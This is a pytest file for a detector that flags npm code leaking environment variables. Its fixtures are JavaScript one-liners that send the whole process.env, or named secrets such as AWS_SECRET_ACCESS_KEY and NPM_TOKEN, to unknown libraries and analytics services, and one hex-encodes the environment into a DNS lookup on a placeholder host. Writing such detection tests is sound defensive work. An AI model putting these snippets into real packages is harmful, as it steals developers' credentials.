"""What an npm package takes and hands to a library that nobody modelled, or to a service, is told."""

import pytest
from engine_flows import flows

from ostiary.program.flow import AS_TABLE, AS_TEXT, Act, Taint

ALL = "JSON.stringify(process.env)"
HANDED = [
    f"require('unheard-of').Store().bucket('a').file('b').save({ALL})",
    f"new (require('unheard-of').Thing)({{data: Buffer.from({ALL}).toString('base64')}})",
    f"require('unheard-of').create('k').rows.append({{values: [{ALL}]}})",
    f"require('unheard-of')({ALL}.slice(0, 900).trim())",
]
SERVED = [
    "new (require('posthog-node').PostHog)('k').capture({event: 'e', properties: {...process.env}})",
    "const a = require('@amplitude/analytics-node'); a.init('k'); a.track('e', {env: process.env})",
    "require('@sentry/node').setContext('env', process.env)",
    "const f = require('firebase/database'); f.set(f.ref(f.getDatabase(), 'a'), {...process.env})",
    "new (require('pusher'))({key: 'k'}).trigger('c', 'e', {...process.env})",
]
ORDINARY = [
    "module.exports = require('@t3-oss/env-core').createEnv({runtimeEnv: process.env, server: {}})",
    f"console.log(require('chalk').green({ALL}))",
    f"require('debug')('x')({ALL})",
    "require('@sentry/node').init({dsn: process.env.SENTRY_DSN, environment: process.env.NODE_ENV})",
    "module.exports = require('lodash.merge')({}, process.env, {a: 1})",
    "module.exports = new (require('unheard-of').Client)(process.env.A_URL, process.env.OTHER_TOKEN)",
    "require('unheard-of').send([process.env.ONE_NAME, process.env.OTHER_TOKEN])",
    "require('dotenv').config({processEnv: process.env})",
]


@pytest.mark.parametrize("text", HANDED)
def test_a_client_that_was_made_without_an_address(text: str) -> None:
    (one,) = flows(text, Act.HAND, "npm")
    assert one.target == AS_TEXT
    assert one.has(Taint.ENVIRONMENT)
    assert not flows(f"exports.go = () => {{ {text} }}", Act.HAND, "npm")


@pytest.mark.parametrize("text", SERVED)
def test_a_service_that_nobody_has_to_name(text: str) -> None:
    assert [one for one in flows(text, Act.SEND, "npm") if one.has(Taint.ENVIRONMENT)]


def test_several_secrets_in_one_list() -> None:
    text = "require('unheard-of').send(['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'].map((k) => process.env[k]))"
    (one,) = flows(text, Act.HAND, "npm")
    assert one.target == AS_TABLE


def test_a_name_that_another_library_looks_up() -> None:
    text = "new (require('unheard-of'))().resolveA(Buffer.from({}).toString('hex') + '.c.example.invalid')"
    (one,) = flows(text.format(ALL), Act.SEND, "npm")
    assert one.target == "c.example.invalid"
    assert not flows(text.format("'a'"), Act.SEND, "npm")


@pytest.mark.parametrize("text", ORDINARY)
def test_settings_words_for_people_and_a_client_s_own_key(text: str) -> None:
    assert not [one for one in flows(text, form="npm") if one.act in {Act.HAND, Act.SEND}]
